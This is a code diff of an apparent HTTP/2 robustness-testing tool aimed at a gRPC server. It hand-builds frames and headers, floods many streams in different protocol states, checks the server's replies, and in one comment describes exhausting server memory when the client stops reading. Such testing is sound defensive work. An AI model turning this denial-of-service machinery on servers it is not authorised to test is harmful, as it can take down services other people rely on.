@@ -10,13 +10,13 @@ from attack_table import SMALL, UNKNOWN, WATCH, Repeated, reset, whole
 from attackers import Attack
 from http2 import (
     ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PADDED, PING, PRIORITY, PUSH_PROMISE, RST_STREAM, SETTINGS, SERVICE,
-    WINDOW_UPDATE, frame, literal, message, request_headers, settings,
+    WINDOW_UPDATE, frame, integer, literal, message, request_headers, settings,
 )
 
 PRIORITY_FLAG = 0x20
 ALTSVC, ORIGIN, PRIORITY_UPDATE, UNASSIGNED = 0xA, 0xC, 0x10, 0xBE
 UNITS = 20  # streams in what is sent at once
-TIMES = 3  # the frame for each of them
+PARTS = 5  # of the frames, when nobody reads: what waits in the kernel has to be filled before the server's own memory is
 
 
 def number(value):
@@ -30,6 +30,11 @@ class Frame:
     flags: int = 0
     payload: object = b""  # or a function of the stream
     cut: bool = False  # its head promises a byte more than there is
+
+    @property
+    def times(self):
+        """How often it comes in a stream."""
+        return 1 if self.cut or not callable(self.payload) and len(self.payload) > 1000 else 3
 
     def of(self, stream):
         payload = self.payload(stream) if callable(self.payload) else self.payload
@@ -114,12 +119,14 @@ FRAMES = [
 ]
 
 
-def opened(stream, path=None, flags=END_HEADERS, headers=None):
-    return frame(HEADERS, flags, stream, headers or request_headers(path=path))
+def short_head(path, content_type):
+    """As short as it can be without HPACK's table, which frames may change."""
+    pseudo = b"\x83\x86\x04" + integer(len(path), 7) + path.encode() + b"\x01\x01a"
+    return pseudo + integer(31, 4) + integer(len(content_type), 7) + content_type.encode() + literal("te", "trailers")
 
 
-NOT_GRPC = REQUEST.replace(literal("content-type", "application/grpc"), literal("content-type", "text/plain"))
-assert NOT_GRPC != REQUEST
+def opened(stream, path=SERVICE + "DynamicQuantize", flags=END_HEADERS, content_type="application/grpc"):
+    return frame(HEADERS, flags, stream, short_head(path, content_type))
 
 
 @dataclasses.dataclass
@@ -148,7 +155,7 @@ STATES = [
     State("half closed, a Watch", lambda stream: opened(stream, WATCH) + whole(stream, b""), after=reset, says="200"),
     State("refused", lambda stream: opened(stream, UNKNOWN, END_HEADERS | END_STREAM), says="200 12"),
     State("refused while open", lambda stream: opened(stream, UNKNOWN), says="200 12 reset 0"),
-    State("not gRPC", lambda stream: opened(stream, headers=NOT_GRPC), says="415 reset 0"),
+    State("not gRPC", lambda stream: opened(stream, content_type="text/plain"), says="415 reset 0"),
     State("over the limit of streams", lambda stream: opened(stream)),
     State("reset", lambda stream: opened(stream) + reset(stream)),
     State("reset after a whole call", lambda stream: opened(stream) + whole(stream) + reset(stream)),
@@ -163,7 +170,7 @@ def units(state, sent):
 
     def unit(stream):
         target = stream if state.target is None else state.target(stream)
-        return state.before(stream) + sent.of(target) * TIMES + state.after(stream)
+        return state.before(stream) + sent.of(target) * sent.times + state.after(stream)
 
     return unit
 
@@ -183,9 +190,18 @@ def pair(sender, state, sent):
         yield repeated.of(begin)
 
 
-def attack(state, reads, only=None):
-    """Every frame (or the one with this number) in a state, by the state's number: a connection for each."""
-    rows = FRAMES if only is None else [FRAMES[only]]
+def attack(state, reads, part="all"):
+    """The frames of a part (0 to PARTS - 1; or "all", or the one with that number after a "#") in a state, by the state's number: a
+    connection for each."""
+    rows = of_part(part)
+    # Where nobody reads, those that the server lets go on are to have most of the time.
     return Attack(
         lambda sender: pair(sender, STATES[state], rows[sender.number]), len(rows), reads, STATES[state].settings,
+        reconnects=30 if reads else 2,
     )
+
+
+def of_part(part):
+    if part.startswith("#"):
+        return [FRAMES[int(part[1:])]]
+    return FRAMES if part == "all" else FRAMES[int(part) :: PARTS]
